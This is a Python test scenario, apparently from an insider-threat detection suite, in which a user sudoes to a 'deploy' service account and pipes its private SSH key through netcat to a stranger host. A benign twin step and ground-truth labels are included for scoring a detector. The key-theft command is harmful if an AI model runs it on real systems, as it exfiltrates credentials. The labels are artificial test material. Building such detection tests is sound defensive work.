"""A person becomes a service account, reads its key and reaches outside with it."""

from __future__ import annotations

from ..scenario import BACKUP, RAW, STRANGER, Person, Prepared, Scenario, Step, Truth
from ..twins import Draw

_DEPLOY = """\
id deploy 2>/dev/null || useradd --create-home --shell /bin/bash deploy
install -d -o deploy -g deploy -m 700 ~deploy/.ssh
test -e ~deploy/.ssh/id_ed25519 || ssh-keygen -q -t ed25519 -N '' -C deploy -f ~deploy/.ssh/id_ed25519
chown deploy:deploy ~deploy/.ssh/*
"""


def _twin(draw: Draw) -> tuple[Step, ...]:
    task = draw.one_of("date", "id", "uptime", "ls /home/deploy", "git --version")
    return (Step("sara", f"ssh sara@app 'sudo -u deploy {task} | busybox nc {BACKUP} {RAW}'"),)


SCENARIO = Scenario(
    number=15,
    title="sudo to a service account, whose key is read and sent away",
    people=(
        Person("sven", ("app",), "NOPASSWD: ALL"),
        Person("sara", ("app",), "NOPASSWD: ALL"),
    ),
    prepared=(Prepared("app", _DEPLOY),),
    steps=(
        Step(
            "sven",
            f"ssh sven@app 'sudo -u deploy cat /home/deploy/.ssh/id_ed25519 | busybox nc {STRANGER} {RAW}'",
        ),
    ),
    twin_title="a daily task as the service account, that reports to the backup host",
    twin=_twin,
    truth=Truth("sven", ("app",), ("secret-read-then-out", "service-secret")),
)
